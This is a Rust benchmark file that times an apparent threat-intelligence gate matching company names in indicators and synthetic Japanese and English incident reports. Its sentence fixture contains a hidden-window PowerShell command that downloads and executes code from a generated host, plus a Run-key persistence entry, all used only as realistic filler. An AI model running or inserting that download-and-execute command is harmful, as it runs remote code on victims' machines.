//! How fast the gate is on one thread: indicators per second with the demo's register and with
//! 10,000 members of five names each, and megabytes of running text per second with those 50,000
//! names, beside what the same machine does in the same run without our logic.

#![expect(clippy::unwrap_used, reason = "a benchmark that cannot start should say why")]

use std::hint::black_box;

use aho_corasick::AhoCorasick;
use criterion::{BenchmarkId, Criterion, Throughput, criterion_group, criterion_main};
use noroshi_anonymity::{Gate, MemberId, NameSearch, Register, RegisterMember, WarningLists};
use noroshi_stix::{DomainName, Kind, Observable, Timestamp};

const SYLLABLES: [&str; 48] = [
    "ka", "shi", "mo", "ta", "ri", "ne", "ku", "sa", "to", "ha", "yo", "mi", "na", "ko", "ya",
    "fu", "ro", "ki", "su", "go", "ma", "de", "wa", "chi", "ben", "dor", "fel", "gar", "hul",
    "jin", "kel", "lam", "mer", "nor", "pol", "quin", "ras", "sten", "tor", "ulm", "ver", "wes",
    "xan", "yor", "zel", "bri", "cas", "dun",
];

/// A reproducible stream of numbers; quality does not matter here.
struct Numbers(u64);

impl Numbers {
    fn below(&mut self, n: usize) -> usize {
        self.0 =
            self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        usize::try_from(self.0 >> 33).unwrap() % n
    }

    fn word(&mut self, syllables: usize) -> String {
        (0..syllables).map(|_| SYLLABLES[self.below(SYLLABLES.len())]).collect()
    }
}

fn register(members: usize) -> Register {
    let mut numbers = Numbers(1);
    let members = (0..members).map(|i| {
        let word = numbers.word(4);
        RegisterMember {
            id: MemberId::new(format!("m{i}")),
            names: vec![
                format!("{word} Industries Co., Ltd."),
                format!("架空{word}工業株式会社"),
                numbers.word(5),
            ],
            label_path: vec!["x".into()],
            weight: 1,
            joined: Timestamp::default(),
            left: None,
            domains: vec![DomainName::parse(&format!("{word}{i}.co.jp")).unwrap()],
            networks: vec![format!("45.{}.{}.0/24", i / 256 % 256, i % 256).parse().unwrap()],
            brands: vec![format!("{word} {}", numbers.word(3)), numbers.word(3)],
        }
    });
    Register::new(members.collect()).unwrap()
}

/// The mix a report has: mostly addresses and hashes, a third of names with text in them.
fn indicators(count: usize) -> Vec<Observable> {
    let mut numbers = Numbers(2);
    let one = |i: usize| {
        let n = &mut numbers;
        let host = format!("{}-{}.{}.net", n.word(2), n.word(2), n.word(3));
        let (kind, value) = match i % 10 {
            0..3 => (Kind::Ipv4, format!("93.{}.{}.7", n.below(256), n.below(256))),
            3..5 => (
                Kind::Sha256,
                [n.below(usize::MAX); 4].map(|x| format!("{:016x}", x ^ n.below(1 << 30))).concat(),
            ),
            5..7 => (Kind::Host, host),
            7 => (Kind::Url, format!("http://{host}/{}/{}.php?p=1", n.word(2), n.word(3))),
            8 => (Kind::FileName, format!("{}_{}.exe", n.word(3), n.word(2))),
            _ => (Kind::Email, format!("{}@{host}", n.word(3))),
        };
        Observable::parse(kind, &value).ok()
    };
    (0..count).filter_map(one).collect()
}

fn judge(c: &mut Criterion) {
    let demo = Register::from_toml(include_str!("../../../reference/demo-register.toml")).unwrap();
    let indicators = indicators(10_000);
    let bytes: usize = indicators.iter().map(|o| o.value().len()).sum();
    let mut group = c.benchmark_group("judge");
    for (name, register) in [("demo-register", demo), ("50k-names", register(10_000))] {
        let gate = Gate::new(&register, &WarningLists::builtin()).unwrap();
        let kept = indicators.iter().filter(|o| gate.signal(o).is_none()).count();
        println!("{name}: {} indicators, {bytes} bytes, {kept} kept back", indicators.len());
        group.throughput(Throughput::Elements(indicators.len() as u64));
        group.bench_function(BenchmarkId::from_parameter(name), |b| {
            b.iter(|| indicators.iter().for_each(|o| drop(black_box(gate.judge(o)))));
        });
    }
    group.finish();
    let big = register(10_000);
    let mut group = c.benchmark_group("build");
    group.sample_size(10);
    group.bench_function("50k-names", |b| {
        b.iter(|| Gate::new(black_box(&big), &WarningLists::builtin()).unwrap());
    });
    group.finish();
}

/// Sentences of incident texts; `{h}` becomes a host, `{w}` a word, `{x}` a digest, `{n}` a number.
const SENTENCES: [&str; 16] = [
    "At {n}:{n} the mail gateway delivered a message from {w}@{h} with the attachment {w}_{n}.zip.\n",
    "The user opened the archive and ran {w}.exe, which contacted https://{h}/{w}/{w}.php?id={n} every {n} minutes.\n",
    "sha256 {x}{x}\n",
    "We saw the same beacon on {n} machines; the scheduled task is called {w} {w} and runs as SYSTEM.\n",
    "10月{n}日、経理部の職員が取引先を装ったメールの添付ファイルを開封し、端末がマルウェアに感染した。\n",
    "通信先は {h} であり、ファイアウォールのログから約{n}分間隔の接続が確認された。\n",
    "感染端末はネットワークから切り離し、フォレンジック調査を外部の専門会社に依頼している。\n",
    "現時点で個人情報の漏えいは確認されていないが、引き続きサーバーのアクセスログを調査する。\n",
    "VPN装置の脆弱性が悪用され、管理者アカウント {w} で不正にログインされた可能性がある。\n",
    "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://{h}/{w}')\"\n",
    "{n}.{n}.10.7 - - [26/Nov/2026:{n}:10:{n} +0900] \"GET /{w}/{w}?q={x} HTTP/1.1\" 200 {n}\n",
    "攻撃者はリモートデスクトップで横展開し、ファイルサーバー上のデータを暗号化した。拡張子は .{w} である。\n",
    "The ransom note asks for contact through a Tor site and threatens to publish {n} GB of data.\n",
    "対策として、添付ファイルのマクロを無効にし、{h} への通信を遮断することを推奨する。\n",
    "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\{w} = C:\\ProgramData\\{w}\\{w}.dll\n",
    "Logs show lateral movement with PsExec and a service named {w}; credentials were dumped from LSASS.\n",
];

/// Words that reports are full of.
const WORDS: [&str; 40] = [
    "invoice", "loader", "update", "agent", "stage", "payload", "beacon", "remote", "desktop",
    "folder", "backup", "service", "report", "quarter", "meeting", "order", "price", "draft",
    "winter", "holiday", "library", "engine", "driver", "printer", "monitor", "sync", "portal",
    "static", "images", "content", "delivery", "module", "kernel", "session", "archive", "memo",
    "tracker", "schedule", "network", "storage",
];

/// About `size` bytes of an incident's text, Japanese and English in turn, in which one word in
/// thirty is made of the same syllables as the names.
fn incident_text(size: usize) -> String {
    let mut numbers = Numbers(3);
    let word = |n: &mut Numbers| match n.below(30) {
        0 => n.word(2),
        _ => WORDS[n.below(WORDS.len())].to_owned(),
    };
    let mut text = String::with_capacity(size + 500);
    while text.len() < size {
        let mut rest = SENTENCES[numbers.below(SENTENCES.len())];
        while let Some((before, after)) = rest.split_once('{') {
            text.push_str(before);
            let n = &mut numbers;
            match after.as_bytes()[0] {
                b'h' => text.push_str(&format!("{}-{}.{}.net", word(n), word(n), word(n))),
                b'w' => text.push_str(&word(n)),
                b'x' => text.push_str(&format!("{:016x}{:016x}", n.0, n.0 ^ 0x5bd1_e995_9e37_79b9)),
                _ => text.push_str(&n.below(60).to_string()),
            }
            rest = &after[2..];
        }
        text.push_str(rest);
    }
    text
}

/// What the peer looks for: the names in small letters, as they are given.
fn spellings(register: &Register) -> Vec<String> {
    let names = register.members().iter().flat_map(|m| m.names.iter().chain(&m.brands));
    names.map(|name| name.to_lowercase()).collect()
}

fn running_text(c: &mut Criterion) {
    let register = register(10_000);
    let search = NameSearch::new(&register).unwrap();
    let text = incident_text(1 << 20);
    let japanese: String = text.chars().filter(|c| !c.is_ascii() || *c == '\n').collect();
    let english: String = text.chars().filter(char::is_ascii).collect();
    let peer = AhoCorasick::new(spellings(&register)).unwrap();
    println!("{} bytes of text name {} members", text.len(), search.members_in(&text).len());
    let mut group = c.benchmark_group("text");
    group.sample_size(20);
    for (name, text) in [("mixed", &text), ("english", &english), ("japanese", &japanese)] {
        group.throughput(Throughput::Bytes(text.len() as u64));
        group.bench_function(BenchmarkId::new("all-spellings", name), |b| {
            b.iter(|| search.members_in(text).len());
        });
    }
    group.throughput(Throughput::Bytes(text.len() as u64));
    // One spelling of each name, no decoding, no boundaries: what the automaton alone would cost.
    group.bench_function("one-spelling-aho-corasick/mixed", |b| {
        b.iter(|| peer.find_overlapping_iter(&text).count());
    });
    group.bench_function("memory-scan/mixed", |b| {
        b.iter(|| black_box(&text).bytes().map(u64::from).sum::<u64>());
    });
    group.finish();
    for (name, text) in [("mixed", &text), ("english", &english), ("japanese", &japanese)] {
        compare(name, &search, &peer, text);
    }
}

/// Seconds this thread has worked: on a shared machine waiting is no measure.
fn worked() -> f64 {
    let text = std::fs::read_to_string("/proc/thread-self/schedstat").unwrap();
    text.split(' ').next().unwrap().parse::<f64>().unwrap() / 1e9
}

/// The same three, in turn on the same text, as one line of megabytes per second of the thread's own
/// time, and their ratio.
fn compare(name: &str, search: &NameSearch, peer: &AhoCorasick, text: &str) {
    let mut best = [f64::MAX; 3];
    for _ in 0..7 {
        let runs: [&dyn Fn() -> usize; 3] = [
            &|| search.members_in(text).len(),
            &|| peer.find_overlapping_iter(text).count(),
            &|| usize::try_from(text.bytes().map(u64::from).sum::<u64>()).unwrap(),
        ];
        // Often enough each that the clock, which counts in ticks, sees them.
        for ((run, times), best) in runs.iter().zip([4, 50, 1000]).zip(&mut best) {
            let start = worked();
            for _ in 0..times {
                black_box(run());
            }
            *best = best.min((worked() - start) / f64::from(times));
        }
    }
    let speed = best.map(|seconds| text.len() as f64 / 1e6 / seconds);
    println!(
        "{name}: every spelling {:.1} MB/s, one spelling with Aho-Corasick {:.1} MB/s ({:.2} times), reading the bytes {:.0} MB/s",
        speed[0],
        speed[1],
        speed[0] / speed[1],
        speed[2],
    );
}

criterion_group!(benches, judge, running_text);
criterion_main!(benches);
